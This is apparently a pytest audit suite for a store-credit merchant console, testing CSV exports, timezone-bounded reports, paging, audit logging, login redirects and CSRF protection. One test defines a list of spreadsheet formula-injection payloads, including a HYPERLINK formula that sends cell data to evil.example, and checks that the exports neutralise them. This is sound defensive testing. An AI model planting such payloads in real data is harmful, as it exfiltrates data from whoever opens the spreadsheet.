"""Outside-in audit (session 10) of the merchant console and the customer's statement: numbers that must agree
between pages and files, CSV a spreadsheet reads as data, periods on the shop's own days, paging, audit rows,
pages on empty data, login and CSRF. Its findings were fixed in the same session (each test failed before)."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal

import pytest
from sqlalchemy import select, update

from bridge.accounts import SystemAccount, ensure_customer, system_account, wallet_account
from bridge.audit import recent
from bridge.db import unit_of_work
from bridge.ledger import Leg, post_transaction
from bridge.models import LedgerTransaction, Shop, WithdrawalRequest
from tests.console_support import form_post, make_user, move, posted_at, sign_in, text_of
from tests.integration.test_api import auth

pytest_plugins = ("tests.console_fixtures",)  # fixtures: merchant, console

PARIS = "Europe/Paris"
NOW = datetime.now(UTC)


def at(day: date, hour: int, minute: int = 0) -> datetime:
    return datetime.combine(day, time(hour, minute), tzinfo=UTC)


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200, text_of(response)[:500]
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(text_of(response).removeprefix("\ufeff"))))


def set_settings(services, shop_model, **values) -> None:
    with unit_of_work(services.sessions) as session:
        stored = session.get(Shop, shop_model.id)
        session.execute(update(Shop).where(Shop.id == shop_model.id).values(settings={**stored.settings, **values}))


def post_kind(services, shop_model, customer_id: str, kind: str, amount: int, system: SystemAccount, key: str, when):
    """A transaction of a kind `move` does not know (tip, payment_reversal…) against `system`."""
    with unit_of_work(services.sessions) as session, posted_at(when):
        customer = ensure_customer(session, shop_model.id, customer_id)
        wallet = wallet_account(session, customer, shop_model.currency)
        other = system_account(session, shop_model.id, system, shop_model.currency)
        post_transaction(
            session,
            shop_id=shop_model.id,
            kind=kind,
            reason=f"{kind} {key}",
            legs=[Leg(wallet, amount), Leg(other, -amount)],
            idempotency_key=key,
        )


def statement_link(client, shop, customer="42") -> str:
    response = client.post(f"/api/v1/customers/{customer}/statement-link", headers=auth(shop))
    assert response.status_code == 201
    return response.get_json()["url"].split("https://bridge.example.test", 1)[1]


# Findings -----------------------------------------------------------------------------------------------------


def test_customers_statement_page_reaches_every_movement(client, services, shop):
    s = shop.shop
    start = NOW - timedelta(days=3)
    for n in range(205):
        move(
            services,
            s,
            "42",
            "adjustment",
            100,
            start + timedelta(minutes=n),
            f"m{n}",
            reason=f"Movement number {n:03d}",
        )
    url = statement_link(client, shop)
    html = text_of(client.get(url))
    assert "Movement number 204" in html and "€205.00" in html  # the newest and the balance are there
    shown = re.findall(r"Movement number (\d{3})", html)
    # Every movement explained: the oldest (the first credit) is on the page, or a link leads to it.
    assert "Movement number 000" in html or re.search(r"older|cursor|before=", html, re.I), len(shown)


def test_the_statement_says_why_available_is_below_the_balance(client, services, shop):
    """A hold (here, money reserved by the shop's API) takes from "Available": the page says what holds it."""
    move(services, shop.shop, "42", "adjustment", 5_000, NOW - timedelta(days=1), "funds")
    held = client.post(
        "/api/v1/customers/42/holds",
        json={"amount": 2_000, "reason": "Reserved for order #77"},
        headers=auth(shop, "h"),
    )
    assert held.status_code == 201
    html = text_of(client.get(statement_link(client, shop)))
    assert "€30.00" in html and "€20.00: Reserved for order #77" in html


def test_convert_button_is_offered_only_when_the_points_can_be_converted(client, services, shop):
    s = shop.shop
    set_settings(services, s, points_conversion_points=100, points_conversion_value=100, points_conversion_minimum=500)
    move(services, s, "42", "points_earned", 150, NOW - timedelta(hours=1), "pts")
    url = statement_link(client, shop)
    html = text_of(client.get(url))
    offered = "Convert my points" in html
    if offered:  # what the customer gets from the button offered to them
        form = {n: re.search(rf'name="{n}" value="([^"]*)"', html).group(1) for n in ("csrf_token", "form_token")}
        answer = client.post(url + "/convert", data=form, follow_redirects=True)
        assert "not enough points to convert" in text_of(answer)  # the refusal, after the offer
    assert not offered


def test_statement_csv_link_downloads_what_the_filtered_page_shows(console, services, shop):
    s = shop.shop
    move(services, s, "c1", "topup", 5_000, NOW - timedelta(days=2), "t1")
    move(services, s, "c1", "payment", -1_000, NOW - timedelta(days=1), "p1", order="900")
    page = text_of(console.get(f"/shops/{s.id}/customers/c1?kind=topup"))
    assert "payment p1" not in page  # the screen shows top-ups only
    href = re.search(r'href="([^"]*statement\.csv[^"]*)"', page).group(1).replace("&amp;", "&")
    kinds = {row["kind"] for row in csv_rows(console.get(href))}
    assert kinds == {"topup"}, kinds


def test_overview_wallet_payments_agree_with_the_reports_wallet_payments(console, services, shop):
    s = shop.shop
    move(services, s, "c1", "topup", 5_000, NOW - timedelta(days=3), "t1")
    move(services, s, "c1", "payment", -1_000, NOW - timedelta(days=2), "p1")
    post_kind(services, s, "c1", "tip", -500, SystemAccount.TIPS, "tip1", NOW - timedelta(days=1))
    rows = csv_rows(console.get(f"/shops/{s.id}/reports/wallet.csv"))  # the default: the last 30 days
    report_payments = -sum(Decimal(r["payments_net"]) for r in rows)
    assert report_payments == Decimal("15.00")
    overview = text_of(console.get(f"/shops/{s.id}/"))
    shown = re.search(r"Wallet payments, 30 days</span><span class=\"stat-value\">([^<]+)<", overview).group(1)
    assert shown == "€15.00", shown


def test_withdrawals_page_counts_and_lists_every_waiting_request(console, services, shop):
    s = shop.shop
    with unit_of_work(services.sessions) as session:
        for n in range(101):
            customer = ensure_customer(session, s.id, f"w{n}", name=f"Waiting {n:03d}")
            session.add(
                WithdrawalRequest(
                    shop_id=s.id, customer_id=customer.id, idempotency_key=f"k{n}", amount=100, currency="EUR"
                )
            )
    page = text_of(console.get(f"/shops/{s.id}/withdrawals"))
    assert "101 waiting" in page and "Waiting 099" in page, re.search(r"\d+ waiting", page).group(0)
    later = re.search(r'href="([^"#]*withdrawals\?after=\d+)', page).group(1)
    assert "Waiting 100" in text_of(console.get(later)) and "Waiting 099" not in text_of(console.get(later))


def test_customers_without_movements_sort_last_either_way(console, services, shop):
    s = shop.shop
    with unit_of_work(services.sessions) as session:
        ensure_customer(session, s.id, "idle", name="Idle Person")
    move(services, s, "busy", "topup", 100, NOW - timedelta(days=1), "t1", name="Busy Person")
    page = text_of(console.get(f"/shops/{s.id}/customers?sort=last_movement&dir=asc"))
    assert page.index("Busy Person") < page.index("Idle Person")


def test_transactions_csv_says_which_merchant_adjusted(console, services, shop):
    s = shop.shop
    move(services, s, "c1", "topup", 5_000, NOW - timedelta(days=1), "t1")
    page = text_of(console.get(f"/shops/{s.id}/customers/c1"))
    token = re.search(r'name="token" value="([0-9a-f]{32})"', page).group(1)
    answer = form_post(
        console,
        f"/shops/{s.id}/customers/c1/adjust",
        {"direction": "debit", "amount": "2.50", "reason": "Damaged parcel", "token": token},
    )
    assert answer.status_code == 302
    rows = csv_rows(console.get(f"/shops/{s.id}/exports/transactions.csv"))
    adjustment = next(r for r in rows if r["kind"] == "adjustment")
    assert "ann@example.com" in adjustment["actor"], adjustment["actor"]


def test_csv_files_open_in_excel_with_their_accents(console, services, shop):
    s = shop.shop
    move(services, s, "c1", "topup", 5_000, NOW - timedelta(days=1), "t1", name="Zoë Müller", email="zoe@example.com")
    body = console.get(f"/shops/{s.id}/exports/balances.csv").get_data()
    assert "Zoë Müller".encode() in body
    assert body.startswith(b"\xef\xbb\xbf")


def test_last_12_months_preset_always_has_the_same_number_of_months():
    from bridge.reports import make_buckets
    from bridge.surfaces.console.report_views import presets

    counts = {}
    for today in (date(2026, 12, 6), date(2026, 7, 31), date(2028, 3, 15), date(2027, 3, 15)):
        period = dict(presets(today))["Last 12 months"]
        counts[today] = len(make_buckets(period["start"], period["end"], "month"))
    assert set(counts.values()) == {12}, counts


# Behaviour pinned (passes) ------------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def test_no_csv_cell_starts_a_formula(console, services, shop):
    """Names, e-mails and reasons typed by others reach every CSV as text, never as a formula; amounts stay
    numbers."""
    s = shop.shop
    for n, hostile in enumerate(HOSTILE):
        move(
            services,
            s,
            f"h{n}",
            "topup",
            1_000,
            NOW - timedelta(days=1, minutes=n),
            f"t{n}",
            name=hostile,
            email=hostile,
            reason=hostile,
        )
        move(services, s, f"h{n}", "payment", -250, NOW - timedelta(hours=5, minutes=n), f"p{n}", reason=hostile)
    urls = [
        f"/shops/{s.id}/exports/transactions.csv",
        f"/shops/{s.id}/exports/journal.csv",
        f"/shops/{s.id}/exports/balances.csv",
        f"/shops/{s.id}/customers/h0/statement.csv",
        *(f"/shops/{s.id}/reports/{name}.csv" for name in ("wallet", "points", "usage", "liability", "reconciliation")),
    ]
    for url in urls:
        for row in csv.reader(io.StringIO(text_of(console.get(url)).removeprefix("\ufeff"))):
            for value in row:
                if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    assert re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", value), (url, value)
    balances = csv_rows(console.get(f"/shops/{s.id}/exports/balances.csv"))
    assert {r["name"] for r in balances} == {"'" + h for h in HOSTILE}
    assert {r["balance"] for r in balances} == {"7.50"}


def test_a_month_in_the_shops_zone_agrees_across_report_exports_and_statement(console, services, shop):
    """January 2026 in Paris: a movement at 23:30 UTC on 31 January is 1 February there; one at 23:30 UTC on
    31 December is 1 January. The report's month, the transactions CSV, the journal, the statement CSV and the
    liability at the month's end all say the same."""
    s = shop.shop
    set_settings(services, s, timezone=PARIS)
    move(services, s, "c1", "topup", 10_000, at(date(2025, 12, 31), 22, 59), "before")  # 23:59 Paris, Dec 31
    move(services, s, "c1", "topup", 1_000, at(date(2025, 12, 31), 23, 30), "first")  # 00:30 Paris, Jan 1
    move(services, s, "c1", "payment", -2_500, at(date(2026, 1, 15), 12), "mid", order="7")
    move(services, s, "c2", "refund_to_wallet", 700, at(date(2026, 1, 31), 22, 59), "last")  # 23:59 Paris
    move(services, s, "c2", "payment", -300, at(date(2026, 1, 31), 23, 30), "after")  # Feb 1 in Paris
    q = "start=2026-01-01&end=2026-01-31"
    wallet = csv_rows(console.get(f"/shops/{s.id}/reports/wallet.csv?{q}&granularity=month"))
    assert len(wallet) == 1
    assert (wallet[0]["credited_amount"], wallet[0]["debited_amount"]) == ("17.00", "25.00")
    assert (wallet[0]["credited_count"], wallet[0]["debited_count"]) == ("2", "1")
    liability = csv_rows(console.get(f"/shops/{s.id}/reports/liability.csv?{q}&granularity=month"))
    assert liability[0]["liability"] == "92.00"
    recon = csv_rows(console.get(f"/shops/{s.id}/reports/reconciliation.csv?{q}&granularity=month"))
    money = {r["line"]: r for r in recon if r["unit"] == "EUR"}
    assert (money["opening balance"]["balance"], money["closing balance"]["balance"]) == ("100.00", "92.00")
    assert money["difference"]["balance"] == "0.00"
    moves = csv_rows(console.get(f"/shops/{s.id}/exports/transactions.csv?{q}"))
    assert sorted(r["reason"] for r in moves) == ["payment mid", "refund_to_wallet last", "topup first"]
    assert sum(Decimal(r["amount"]) for r in moves) == Decimal("-8.00")
    assert moves[0]["date"].endswith("+01:00") and moves[0]["date"].startswith("2026-01-01T00:30")
    journal = csv_rows(console.get(f"/shops/{s.id}/exports/journal.csv?{q}"))
    debits = sum(Decimal(r["debit"] or 0) for r in journal)
    assert debits == sum(Decimal(r["credit"] or 0) for r in journal) == Decimal("42.00")
    statement = csv_rows(console.get(f"/shops/{s.id}/customers/c1/statement.csv?{q}"))
    assert [r["balance_after"] for r in statement] == ["110.00", "85.00"]
    owed = csv_rows(console.get(f"/shops/{s.id}/exports/liability.csv?date=2026-01-31"))
    assert owed == [{"date": "2026-01-31", "currency": "EUR", "unredeemed_store_credit": "92.00"}]
    balances = csv_rows(console.get(f"/shops/{s.id}/exports/balances.csv?date=2026-01-31"))
    assert sum(Decimal(r["balance"]) for r in balances if r["account"] == "wallet") == Decimal("92.00")


def test_weeks_and_days_of_the_same_period_add_up_to_the_same_totals(console, services, shop):
    s = shop.shop
    set_settings(services, s, timezone="America/New_York")
    base = (NOW - timedelta(days=20)).date()
    for n in range(12):
        move(services, s, f"c{n % 3}", "topup", 100 * (n + 1), at(base + timedelta(days=n), 15, n), f"t{n}")
    q = f"start={base.isoformat()}&end={(base + timedelta(days=13)).isoformat()}"
    totals = {}
    for granularity in ("day", "week", "month"):
        rows = csv_rows(console.get(f"/shops/{s.id}/reports/wallet.csv?{q}&granularity={granularity}"))
        totals[granularity] = (
            sum(Decimal(r["credited_amount"]) for r in rows),
            sum(int(r["credited_count"]) for r in rows),
        )
    assert totals["day"] == totals["week"] == totals["month"] == (Decimal("78.00"), 12)


def test_a_console_adjustment_is_audited_once_with_its_merchant(console, services, shop):
    s = shop.shop
    move(services, s, "c1", "topup", 5_000, NOW - timedelta(days=1), "t1")
    page = text_of(console.get(f"/shops/{s.id}/customers/c1"))
    token = re.search(r'name="token" value="([0-9a-f]{32})"', page).group(1)
    data = {"direction": "debit", "amount": "12,50", "reason": "Damaged parcel", "token": token}
    for _ in range(2):  # a double click
        assert form_post(console, f"/shops/{s.id}/customers/c1/adjust", data).status_code == 302
    with unit_of_work(services.sessions) as session:
        events = [e for e in recent(session, s.id) if e.action.startswith("wallet.")]
        adjustments = (
            session.execute(select(LedgerTransaction).where(LedgerTransaction.kind == "adjustment")).scalars().all()
        )
    assert len(adjustments) == 1 and adjustments[0].actor_kind == "merchant"
    assert adjustments[0].actor_id == "ann@example.com"
    assert len(events) == 1
    assert (events[0].action, events[0].old_value, events[0].new_value) == ("wallet.debit", "€50.00", "€37.50")
    audit_page = text_of(console.get(f"/shops/{s.id}/audit"))
    assert "€37.50" in audit_page
    page = text_of(console.get(f"/shops/{s.id}/customers/c1"))
    assert "Damaged parcel" in page and "-€12.50" in page and "ann@example.com" in page


def test_another_team_member_is_named_as_the_actor(client, services, shop):
    s = shop.shop
    move(services, s, "c1", "topup", 5_000, NOW - timedelta(days=1), "t1")
    make_user(services, s.id, email="bob@example.com", name="Bob")
    assert sign_in(client, email="bob@example.com").status_code == 302
    page = text_of(client.get(f"/shops/{s.id}/customers/c1"))
    token = re.search(r'name="token" value="([0-9a-f]{32})"', page).group(1)
    data = {"direction": "credit", "amount": "1", "reason": "Sorry", "token": token}
    assert form_post(client, f"/shops/{s.id}/customers/c1/adjust", data).status_code == 302
    with unit_of_work(services.sessions) as session:
        tx = session.execute(select(LedgerTransaction).where(LedgerTransaction.kind == "adjustment")).scalar_one()
        event = next(e for e in recent(session, s.id) if e.action == "wallet.credit")
    assert tx.actor_id == "bob@example.com"
    assert event.actor == "bob@example.com"


def test_customer_list_pages_neither_skip_nor_repeat_under_ties(console, services, shop):
    s = shop.shop
    when = NOW - timedelta(days=1)
    for n in range(53):  # equal balances: only the tie-breaker orders them
        move(services, s, f"t{n:02d}", "topup", 1_000, when + timedelta(seconds=n), f"k{n}", name=f"Tied {n:02d}")
    for sort in ("balance", "points", "name", "last_movement"):
        for direction in ("asc", "desc"):
            seen = []
            for page in (1, 2, 3):
                html = text_of(console.get(f"/shops/{s.id}/customers?sort={sort}&dir={direction}&page={page}"))
                seen += re.findall(r">(Tied \d\d)</a>", html)
            assert sorted(seen) == [f"Tied {n:02d}" for n in range(53)], (sort, direction)


def test_statement_paging_on_the_console_shows_each_movement_once(console, services, shop):
    s = shop.shop
    start = NOW - timedelta(days=2)
    for n in range(120):
        kind = "points_earned" if n % 4 == 0 else "adjustment"
        move(services, s, "c1", kind, 10, start + timedelta(minutes=n), f"m{n}", reason=f"Line {n:03d}")
    seen, url = [], f"/shops/{s.id}/customers/c1"
    while url:
        html = text_of(console.get(url))
        seen += re.findall(r"<td>Line (\d{3})</td>", html)
        older = re.search(r'class="pager"><a class="button" href="([^"]+)"', html)
        url = older.group(1).replace("&amp;", "&").split("#")[0] if older else None
    assert sorted(seen) == [f"{n:03d}" for n in range(120)]


def test_pages_of_an_empty_shop_answer(console, shop):
    s = shop.shop
    for path in ("/", "customers", "reports", "exports", "withdrawals", "operations", "audit", "settings", "team"):
        response = console.get(f"/shops/{s.id}/{path.lstrip('/')}")
        assert response.status_code == 200, (path, response.status_code)
    for name in ("wallet", "points", "usage", "liability", "reconciliation"):
        assert console.get(f"/shops/{s.id}/reports/{name}.csv").status_code == 200
    for name in ("transactions", "journal", "balances", "liability"):
        assert console.get(f"/shops/{s.id}/exports/{name}.csv").status_code == 200
    rows = csv_rows(console.get(f"/shops/{s.id}/exports/liability.csv"))
    assert rows[0]["unredeemed_store_credit"] == "0.00"


def test_a_customer_without_a_wallet_has_pages_that_answer(console, client, services, shop):
    s = shop.shop
    with unit_of_work(services.sessions) as session:
        ensure_customer(session, s.id, "42", name="New Person")
    assert console.get(f"/shops/{s.id}/customers/42").status_code == 200
    assert csv_rows(console.get(f"/shops/{s.id}/customers/42/statement.csv")) == []
    url = statement_link(client, shop)
    assert client.get(url).status_code == 200
    assert client.get(url + ".json").get_json()["wallet"]["balance"] == 0


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "customers",
        "customers/c1",
        "customers/c1/statement.csv",
        "customers/c1/personal-data.json",
        "reports",
        "reports/wallet.csv",
        "exports",
        "exports/journal.csv",
        "withdrawals",
        "operations",
        "audit",
        "settings",
        "team",
    ],
)
def test_no_console_page_without_signing_in(client, services, shop, path):
    move(services, shop.shop, "c1", "topup", 1_000, NOW - timedelta(days=1), "t1")
    response = client.get(f"/shops/{shop.shop.id}/{path.lstrip('/')}")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


@pytest.mark.parametrize(
    "path, data",
    [
        ("customers/c1/adjust", {"direction": "credit", "amount": "5", "reason": "x", "token": "0" * 32}),
        ("customers/c1/lock", {"action": "lock", "confirm": "yes"}),
        ("customers/c1/erase", {"confirm": "yes"}),
        ("withdrawals/1/decline", {"reason": "no"}),
        ("operations/outbox/retry-all", {}),
    ],
)
def test_no_change_without_its_csrf_token(console, services, shop, path, data):
    s = shop.shop
    move(services, s, "c1", "topup", 1_000, NOW - timedelta(days=1), "t1", name="Kept Name")
    response = console.post(f"/shops/{s.id}/{path}", data=data)
    assert response.status_code == 400
    with unit_of_work(services.sessions) as session:
        assert session.execute(select(LedgerTransaction.kind)).scalars().all() == ["topup"]
        assert recent(session, s.id) == []


def test_the_customers_statement_forms_need_their_csrf_token(client, services, shop):
    move(services, shop.shop, "42", "points_earned", 500, NOW - timedelta(days=1), "p1")
    url = statement_link(client, shop)
    answer = client.post(url + "/convert", data={"form_token": "0" * 32})
    assert answer.status_code == 400
    with unit_of_work(services.sessions) as session:
        assert session.execute(select(LedgerTransaction.kind)).scalars().all() == ["points_earned"]


def test_a_zero_decimal_currency_is_shown_and_exported_without_decimals(client, services):
    console = client
    from tests.conftest import make_shop

    yen = make_shop(services, name="Yen Shop", currency="JPY", url="https://yen.example")
    s = yen.shop
    make_user(services, s.id, email="yen@example.com")
    assert sign_in(console, email="yen@example.com").status_code == 302
    move(services, s, "c1", "topup", 1500, NOW - timedelta(days=1), "t1")
    move(services, s, "c1", "payment", -300, NOW - timedelta(hours=2), "p1")
    page = text_of(console.get(f"/shops/{s.id}/customers/c1"))
    assert "¥1,200" in page and "¥1,200.00" not in page
    moves = csv_rows(console.get(f"/shops/{s.id}/exports/transactions.csv"))
    assert [r["amount"] for r in moves] == ["1500", "-300"]
    wallet = csv_rows(console.get(f"/shops/{s.id}/reports/wallet.csv"))
    assert sum(Decimal(r["credited_amount"]) for r in wallet) == 1500
    assert "." not in "".join(r["credited_amount"] for r in wallet)


def test_statement_describes_each_kind_with_its_sign(client, services, shop):
    """The customer's page: a payment is a debit, a refund and a reversal credits, an expiry a debit; points
    lines say points."""
    s = shop.shop
    t = NOW - timedelta(days=2)
    move(services, s, "42", "topup", 5_000, t, "t1", reason="Top-up (order #1)")
    move(services, s, "42", "payment", -2_000, t + timedelta(hours=1), "p1", reason="Payment for order #2", order="2")
    move(
        services,
        s,
        "42",
        "refund_to_wallet",
        500,
        t + timedelta(hours=2),
        "r1",
        reason="Refund #9 of order #2",
        order="2",
    )
    move(services, s, "42", "expiry", -100, t + timedelta(hours=3), "e1", reason="€1.00 of promotional credit expired")
    move(services, s, "42", "points_earned", 40, t + timedelta(hours=4), "pts", reason="Points for order #2")
    html = text_of(client.get(statement_link(client, shop)))
    rows = re.findall(r'<td class="what">([^<]*)</td>.*?class="num amount (credit|debit)">([^<]*)<', html, re.S)
    assert rows == [
        ("Points for order #2", "credit", "+40 points"),
        ("€1.00 of promotional credit expired", "debit", "-€1.00"),
        ("Refund #9 of order #2", "credit", "+€5.00"),
        ("Payment for order #2", "debit", "-€20.00"),
        ("Top-up (order #1)", "credit", "+€50.00"),
    ]
    assert '<b id="balance">€34.00</b>' in html
